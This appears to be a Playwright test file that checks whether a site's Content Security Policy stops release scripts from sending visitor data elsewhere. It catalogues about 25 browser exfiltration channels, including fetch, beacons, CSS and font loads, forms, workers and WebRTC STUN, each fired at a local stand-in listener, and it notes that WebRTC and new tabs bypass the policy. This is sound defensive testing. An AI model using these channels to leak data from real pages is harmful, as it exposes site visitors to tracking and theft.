import { createSocket, type Socket } from 'node:dgram';
import { once } from 'node:events';
import { createServer, type Server } from 'node:http';
import type { Page } from '@playwright/test';
import { newMember, signedInAs } from '../site/members.ts';
import { at } from '../site/sites.ts';
import { alive, expect, test } from '../site/test.ts';

declare global {
  interface Window {
    /** Adds an element with these properties to the page. */
    add<Name extends keyof HTMLElementTagNameMap>(
      name: Name,
      own: Partial<HTMLElementTagNameMap[Name]>,
    ): HTMLElementTagNameMap[Name];
  }
}

/** What a script of a release could do to send what it knows of a visitor to the address `there`, or to a port of UDP. */
const tries: Record<string, (there: string, udp: number) => unknown> = {
  fetch: (there) => fetch(there, { mode: 'no-cors' }),
  beacon: (there) => navigator.sendBeacon(there, 'x'),
  XMLHttpRequest: (there) => {
    const request = new XMLHttpRequest();
    request.open('GET', there);
    request.send();
  },
  WebSocket: (there) => new WebSocket(there.replace('http', 'ws')),
  EventSource: (there) => new EventSource(there),
  picture: (there) => window.add('img', { src: there }),
  film: (there) => window.add('video', { src: there }).load(),
  font: (there) => new FontFace('x', `url(${there})`).load(),
  'style of an element': (there) => {
    window.add('p', { textContent: 'x' }).style.background = `url(${there})`;
  },
  'style sheet that is made': (there) => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(`html { background: url(${there}) }`);
    document.adoptedStyleSheets.push(sheet);
  },
  'style element': (there) => window.add('style', { textContent: `@import "${there}"` }),
  'style sheet': (there) => window.add('link', { rel: 'stylesheet', href: there }),
  script: (there) => window.add('script', { src: there }),
  module: (there) => import(there),
  frame: (there) => window.add('iframe', { src: there }),
  'frame of a text': (there) => window.add('iframe', { srcdoc: `<img src="${there}">` }),
  object: (there) => window.add('object', { data: there }),
  'form in a frame': (there) => {
    window.add('iframe', { name: 'target' });
    window.add('form', { action: there, target: 'target' }).submit();
  },
  'form in a tab': (there) => window.add('form', { action: there, target: '_blank' }).submit(),
  ping: (there) => {
    window.add('iframe', { name: 'pinged' });
    window.add('a', { href: '/robots.txt', target: 'pinged', ping: there }).click();
  },
  prefetch: (there) => window.add('link', { rel: 'prefetch', href: there }),
  preload: (there) => window.add('link', { rel: 'preload', as: 'image', href: there }),
  modulepreload: (there) => window.add('link', { rel: 'modulepreload', href: there }),
  'worker of a text': (there) => {
    const text = `fetch('${there}', { mode: 'no-cors' })`;
    return new Worker(URL.createObjectURL(new Blob([text], { type: 'text/javascript' })));
  },
  'worker of a file': (there) => new Worker(`/releases/shell/1.0.0/worker.js?${there}`),
  WebRTC: async (_, udp) => {
    const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${udp}` }] });
    connection.createDataChannel('x');
    await connection.setLocalDescription(await connection.createOffer());
  },
  'tab with another page': (there) => window.open(there),
};

/** The same from a frame of an address of this site: what a frame may do its own answer says. */
const framed = [
  ...['a script', '/pictures/placeholder.svg', '/site.webmanifest', '/robots.txt', '/_qa/bar.js'],
  ...['/health/live', '/fr/nowhere', '/graphql', '/_page', `/${'x'.repeat(20_000)}`, 'about:blank'],
];
async function fromFrame([address, there]: readonly [string, string]) {
  const script = document.querySelector<HTMLScriptElement>('script[src*="/releases/"]');
  const frame = document.createElement('iframe');
  const loaded = new Promise((done) => frame.addEventListener('load', done));
  frame.src = address === 'a script' ? (script?.src ?? '/x.js') : address;
  document.body.append(frame);
  await loaded;
  const call = (frame.contentWindow as typeof globalThis & Window).fetch(there, { mode: 'no-cors' });
  await call.catch(() => {});
}

const worker = `fetch(decodeURIComponent(location.search.slice(1)), { mode: 'no-cors' })`;

const frameOf = (address: string) => `frame of ${address.slice(0, 40)}`;
const addressOf = (there: string, by: string, name: string) => `${there}/${encodeURIComponent(`${by}/${name}`)}`;

/** Does all of them on a page; what they send begins with `by`. */
async function tryAll(page: Page, there: string, by: string, udp: number): Promise<void> {
  await page.evaluate(() => {
    window.add = (name, own) => {
      const element = Object.assign(document.createElement(name), own);
      document.body.append(element);
      return element;
    };
  });
  for (const [name, attempt] of Object.entries(tries)) {
    const call = `(async () => (${attempt})(${JSON.stringify(addressOf(there, by, name))}, ${udp}))()`;
    await page.evaluate(`void ${call}.catch(() => {})`);
  }
  for (const address of framed)
    await page.evaluate(fromFrame, [address, addressOf(there, by, frameOf(address))] as const).catch(() => {});
}

test('a release’s script sends nothing to elsewhere but by the ways that no browser can hold', async ({
  page,
  context,
  complaints,
}) => {
  const came = new Set<string>();
  const note = (url = '') => came.add(decodeURIComponent(url.slice(1).replace(/\?.*/, '')));
  const elsewhere = createServer({ maxHeaderSize: 64_000 }, ({ url = '' }, response) => {
    note(url);
    const isWorker = url.startsWith('/releases/');
    response.writeHead(200, { 'content-type': isWorker ? 'text/javascript' : 'text/html' });
    response.end(isWorker ? worker : '<p>x</p>');
  });
  elsewhere.on('upgrade', ({ url = '' }, socket) => {
    note(url);
    socket.destroy();
  });
  const there = `http://127.0.0.1:${await portOf(elsewhere.listen(0, '127.0.0.1'))}`;
  const udpFor = (by: string) =>
    portOf(
      createSocket('udp4', () => came.add(`${by}/WebRTC`))
        .bind(0, '127.0.0.1')
        .unref(),
    );
  const sentBy = (by: string) =>
    [...came].flatMap((one) => (one.startsWith(`${by}/`) ? [one.slice(by.length + 1)] : [])).sort();

  await signedInAs(context, await newMember());
  await page.goto(at('fr', '/fr/contact'));
  await alive(page, 'mf-contact/contact');
  // A worker's file has the headers that files of releases have.
  const policy = await page.evaluate(async () => {
    const script = document.querySelector<HTMLScriptElement>('script[src*="/releases/"]');
    const { headers } = await fetch(script?.src ?? '');
    return headers.get('content-security-policy');
  });
  const headers = { 'content-type': 'text/javascript', ...(policy && { 'content-security-policy': policy }) };
  await page.route(/\/worker\.js\?/, (route) => route.fulfill({ headers, body: worker }));
  await tryAll(page, there, 'a release', await udpFor('a release'));

  // Where nothing keeps a page from it, all of that arrives; by then, what a release's script sent has arrived, too.
  const free = await context.newPage();
  await free.goto(there);
  await tryAll(free, there, 'any page', await udpFor('any page'));
  const all = [...Object.keys(tries), ...framed.map(frameOf)].sort();
  await expect.poll(() => all.filter((one) => !sentBy('any page').includes(one))).toEqual([]);

  // Pages cannot be kept from opening others, and Chromium knows no policy for WebRTC.
  expect(sentBy('a release')).toEqual(['WebRTC', 'tab with another page']);
  complaints.expect(/Content Security Policy/);
  // Whatever a browser can complain of is tried here.
  complaints.allow(/./);
  elsewhere.close();
});

async function portOf(server: Server | Socket): Promise<number> {
  await once(server, 'listening');
  const address = server.address();
  return typeof address === 'object' && address ? address.port : 0;
}
